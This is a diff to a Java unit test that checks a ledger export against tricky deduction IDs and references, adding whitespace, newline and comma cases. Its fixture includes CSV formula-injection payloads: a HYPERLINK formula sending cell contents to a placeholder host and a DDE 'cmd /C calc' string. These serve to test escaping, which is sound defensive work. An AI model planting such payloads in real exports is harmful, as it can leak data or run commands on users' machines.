@@ -65,12 +65,12 @@ class LedgerFilesTest {
   @Test
   void hostileIdsAndReferences_decisions_andTwoCurrencies_roundTrip() {
     String[] ids = {"=HYPERLINK(\"http://x\"&A1,\"x\")", "'=already quoted", "+1+cmd|' /C calc'!A0", "a,b", "new\nline",
-        "quote\"d", "-5", "@sum", "'plain"};
+        "quote\"d", "-5", "@sum", "'plain", " spaced id ", "trailing\t", "two,\n\"lines\", and commas, , , , , , ,"};
     List<Authorization> auths = List.of(auth("AU,1", "6000.00", "PRM-2026-0000002"));
     List<Deduction> deductions = new java.util.ArrayList<>();
     for (int i = 0; i < ids.length; i++) {
       deductions.add(Deduction.builder().id(ids[i]).accountId("KA\"1").reasonCode("promotion")
-          .reference(i == 0 ? "PRM-2026-2" : "=ref" + i).amount(Monies.of(new BigDecimal("100.00"), Currencies.CNY))
+          .reference(i == 0 ? "PRM-2026-2" : i == 10 ? "  spaced , ref  " : "=ref" + i).amount(Monies.of(new BigDecimal("100.00"), Currencies.CNY))
           .date(DAY).build());
     }
     DeductionLedger cny = new DeductionMatcher(POLICY).match(deductions, auths, DeductionLedger.empty(Currencies.CNY))
